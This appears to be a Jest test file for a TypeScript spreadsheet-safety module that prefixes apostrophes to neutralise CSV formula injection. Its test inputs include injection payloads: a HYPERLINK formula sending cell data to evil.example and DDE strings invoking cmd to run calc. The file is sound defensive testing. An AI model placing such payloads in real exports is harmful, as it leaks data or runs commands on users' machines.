import { csvCell, looksLikeFormula, neutraliseFormula, toCsv } from './spreadsheet-safety';

describe('neutraliseFormula', () => {
  it.each([
    '=HYPERLINK("https://evil.example/?"&A1,"Click")',
    "+cmd|' /C calc'!A0",
    '-2+3+cmd|calc',
    '@SUM(1+1)*cmd|calc',
    '\t=1+1',
    '\r=1+1',
    '＝1+1',
  ])('puts an apostrophe before %j', (text) => {
    expect(neutraliseFormula(text)).toBe(`'${text}`);
    expect(looksLikeFormula(text)).toBe(true);
  });

  it.each([
    'Schweißen',
    'IHK Region Stuttgart',
    'MYSKILLS 2026',
    "'=already safe",
    '',
    ' =leading space',
    'a=b',
  ])('leaves %j unchanged', (text) => {
    expect(neutraliseFormula(text)).toBe(text);
    expect(looksLikeFormula(text)).toBe(false);
  });

  it('is idempotent', () => {
    const once = neutraliseFormula('=1+1');
    expect(neutraliseFormula(once)).toBe(once);
  });
});

describe('csvCell and toCsv', () => {
  it('neutralises and quotes text cells, writes numbers as they are', () => {
    expect(csvCell('=1+1')).toBe("'=1+1");
    expect(csvCell('=A1,"x"')).toBe(`"'=A1,""x"""`);
    expect(csvCell('two\nlines')).toBe('"two\nlines"');
    expect(csvCell(-5)).toBe('-5');
    expect(csvCell(null)).toBe('');
    expect(csvCell('a;b', ';')).toBe('"a;b"');
  });

  it('writes rows with CRLF line ends', () => {
    expect(
      toCsv([
        ['name', 'note'],
        ['Amina', '@SUM(1)'],
      ]),
    ).toBe("name,note\r\nAmina,'@SUM(1)\r\n");
  });
});
